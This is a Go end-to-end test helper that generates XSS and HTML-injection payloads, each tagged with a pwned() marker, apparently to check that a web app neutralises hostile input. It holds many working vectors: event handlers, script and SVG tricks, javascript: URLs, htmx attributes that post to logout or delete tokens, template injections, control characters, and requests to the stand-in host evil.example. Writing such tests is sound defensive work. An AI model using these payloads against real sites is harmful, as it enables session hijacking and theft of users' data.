package e2e_test

import (
	"fmt"
	"strings"
)

// hostilePayloads are attacks on a page, as text. MARK stands for what counts an execution, and names field and payload.
func hostilePayloads() (all []string) {
	breakouts := []string{"", `">`, `'>`, `</textarea></title></template>`, `--></style></noscript></script>`, `]]>&lt;/p&gt;</details></table>`}
	vectors := []string{
		`<script>MARK</script>`, `<ScRiPt/x>MARK</sCrIpT>`, `<script src=data:text/javascript,MARK></script>`, `<script type=module>MARK</script>`, `<img src=x onerror=MARK>`, `<IMG SRC=x:x OnErRoR="MARK">`, `<svg onload=MARK>`, `<svg/onload=MARK//`,
		`<svg><script>MARK</script></svg>`, `<svg><animate onbegin=MARK attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:MARK"><text y=20>x</text></a></svg>`, `<svg><foreignObject><iframe srcdoc="<script>parent.MARK</script>"></iframe></foreignObject></svg>`,
		`<math><mtext></mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=MARK src=1>">`, `<body onload=MARK>`, `<iframe src=javascript:MARK></iframe>`, `<iframe srcdoc="<img src=x onerror=parent.MARK>"></iframe>`, `<object data=javascript:MARK></object>`, `<embed src=javascript:MARK>`,
		`<details open ontoggle=MARK>x</details>`, `<video><source onerror=MARK></video>`, `<audio src=x onerror=MARK>`, `<input autofocus onfocus=MARK>`, `<select autofocus onfocus=MARK></select>`, `<marquee onstart=MARK>x</marquee>`, `<div onmouseover=MARK onpointerenter=MARK>x</div>`,
		`<style>@import "//evil.example/x.css";*{background:url(//evil.example/x)}</style>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example/">`, `<a href=javascript:MARK autofocus onfocus=MARK>x</a>`,
		`<form action=/gates/x/decisions method=post id=z><button autofocus onfocus=z.submit() formaction=javascript:MARK>x</button></form>`, `<template shadowrootmode=open><img src=x onerror=MARK></template>`, `<noscript><p title="</noscript><img src=x onerror=MARK>">`, `<x-y onanimationstart=MARK style=animation:x>`,
		`<div hx-get=/inbox hx-trigger=load hx-on::after-request=MARK></div>`, `<div hx-post=/preferences hx-trigger=load hx-swap=none></div>`, `<div data-hx-post=/logout data-hx-trigger=load></div>`, `<div hx-trigger="load[MARK]" hx-get=/></div>`, `<div hx-get=/ hx-vals="js:{x:MARK}" hx-trigger=load></div>`,
		`<div hx-sse:connect=/inbox hx-swap=innerHTML></div>`, `<div hx-delete=/tokens hx-trigger=revealed></div>`, `<div hx-ext=x hx-put=//evil.example hx-trigger="every 1s"></div>`, `<hx-partial hx-target=main><img src=x onerror=MARK></hx-partial>`, `<div id=main hx-swap-oob=true><img src=x onerror=MARK></div>`,
	}
	for _, v := range vectors {
		for _, b := range breakouts {
			all = append(all, b+v)
		}
	}
	for _, attribute := range []string{`onmouseover=MARK`, `autofocus onfocus=MARK x=`, `hx-post=/logout hx-trigger=load x=`, `data-hx-get=//evil.example data-hx-trigger=load x=`, `style=background:url(//evil.example) x=`, `hx-on:click=MARK hx-on:load=MARK x=`} {
		for _, quote := range []string{`"`, `'`, " ", "`"} {
			all = append(all, quote+" "+attribute+quote)
		}
	}
	for _, url := range []string{"javascript:MARK", "JaVaScRiPt:MARK", "java\tscript:MARK", " javascript:MARK", "data:text/html,<script>MARK</script>", "vbscript:MARK", "//evil.example", `/\evil.example`, "javascript&colon;MARK", "&#106;avascript:MARK"} {
		all = append(all, url, "[click]("+url+")", "![x]("+url+")", "\x1b]8;;"+url+"\x07click\x1b]8;;\x07", "<"+url+">")
	}
	all = append(all, "{{MARK}}", "${MARK}", "<%=MARK%>", "{{constructor.constructor('MARK')()}}", "#{MARK}", "@{MARK}", "{%raw%}MARK")
	for _, r := range []string{"\u202e", "\u2066", "\u200b", "\ufeff", "\u2028", "\u0085", "\x1b[31m", "\x1b[2J\x1b[H", "\x9b31m", "\r", "\x08"} {
		all = append(all, r+`<img src=x onerror=MARK>`+r)
	}
	return all
}

// marked names field and payload in an attack.
func marked(payload string, field, n int) string {
	mark := fmt.Sprintf("pwned(%d.%04d)", field, n)
	if !strings.Contains(payload, "MARK") {
		return payload + "<!--" + mark + "-->"
	}
	return strings.ReplaceAll(payload, "MARK", mark)
}

// everyPayload is one text with all attacks.
func everyPayload(field int, separator string) string {
	var all []string
	for n, p := range hostilePayloads() {
		all = append(all, marked(p, field, n))
	}
	return strings.Join(all, separator)
}
